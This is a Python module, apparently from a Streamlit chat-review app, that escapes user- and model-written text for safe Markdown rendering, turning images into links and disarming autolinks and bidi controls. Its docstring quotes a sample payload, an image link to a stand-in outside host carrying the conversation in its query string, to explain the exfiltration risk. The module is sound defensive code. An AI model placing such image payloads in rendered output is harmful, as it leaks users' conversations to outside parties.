"""The one rule for showing what people and models wrote.

- Message bodies render as Markdown, with HTML off (Streamlit's default) and images shown as links:
  a reply could carry `![](https://outside/?q=<the conversation>)`, which a browser would fetch on
  render, sending the conversation away. A link is only followed when a person clicks it.
- Every other user- or model-written string (titles, comments, model names, file names, emails)
  renders as plain text: `plain()` escapes it for any element that renders Markdown (markdown,
  caption, title, info/warning, button and link labels, tooltips).

Every page uses these two; a test sends markup payloads through each input and looks at the page.
"""

from __future__ import annotations

import re

# Every ASCII punctuation character may be backslash-escaped in CommonMark; escaping them all
# also disarms Streamlit's own syntax (`:red[...]`, `:emoji:`, `$LaTeX$`).
_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
# Fenced code blocks and inline code spans: left exactly as written.
# A span opens and closes with backtick runs of the same length (CommonMark), never an escaped one.
_CODE = re.compile(
    r"^[ ]{0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^[ ]{0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
    r"|(?<![`\\])(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)",
    re.M | re.S,
)
# An image, inline `![alt](url)` or by reference `![alt][ref]`: the `!` that makes it one.
_IMAGE_BANG = re.compile(r"(?<!\\)!\[")
# Raw URLs of images cannot load without the `!`; bidi controls can reorder what a reader sees.
_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
# GitHub-flavoured Markdown turns bare `https://...` and `www....` into links even when every
# character is escaped; an invisible word joiner keeps plain text from becoming a link.
_AUTOLINK_STARTS = re.compile(r"(?i)(?<=[a-z])(?=://)|(?<=\bwww)(?=\.)")
_WORD_JOINER = "\u2060"


def plain(text: object) -> str:
    """`text` shown literally in any Markdown-rendering element, on one line."""
    value = "" if text is None else str(text)
    value = _BIDI_CONTROLS.sub("", value)
    value = " ".join(value.split())  # newlines would start blocks (headings, quotes, lists)
    value = _AUTOLINK_STARTS.sub(_WORD_JOINER, value)
    return _ASCII_PUNCTUATION.sub(r"\\\1", value)


def plain_block(text: object) -> str:
    """Like `plain`, keeping line breaks (comments, previews that span lines)."""
    value = _BIDI_CONTROLS.sub("", "" if text is None else str(text))
    lines = [
        _ASCII_PUNCTUATION.sub(r"\\\1", _AUTOLINK_STARTS.sub(_WORD_JOINER, line.strip()))
        for line in value.splitlines()
    ]
    return "  \n".join(line for line in lines if line)


# Markdown syntax that a one-line preview shows as plain words instead: links and images keep their
# text, emphasis and code markers go, as do the marks that start headings, quotes and list items.
_PREVIEW_LINK = re.compile(r"!?\[([^\]]*)\]\([^)]*\)")
_PREVIEW_MARKERS = re.compile(r"(\*\*|__|\*|`+|~~)")
_PREVIEW_LINE_STARTS = re.compile(r"(?m)^\s{0,3}(?:#{1,6}\s+|>\s?|[-+*]\s+|\d+[.)]\s+)")


def markdown_as_text(text: str) -> str:
    """What a Markdown message reads as, for previews and search snippets (still to be `plain`ed)."""
    value = _PREVIEW_LINE_STARTS.sub("", text)
    value = _PREVIEW_LINK.sub(r"\1", value)
    return _PREVIEW_MARKERS.sub("", value)


def plain_piece(text: str) -> str:
    """Like `plain`, for a piece of a line joined to others: a space at either end is kept."""
    lead = " " if text[:1].isspace() else ""
    trail = " " if text[-1:].isspace() and text.strip() else ""
    return lead + plain(text) + trail


def _images_as_links(prose: str) -> str:
    return _IMAGE_BANG.sub("[Image: ", prose)


def message_markdown(text: str) -> str:
    """A message body as Markdown to render: images become links, code stays as written."""
    parts: list[str] = []
    position = 0
    for match in _CODE.finditer(text):
        parts.append(_images_as_links(text[position : match.start()]))
        parts.append(match.group(0))
        position = match.end()
    parts.append(_images_as_links(text[position:]))
    return "".join(parts)
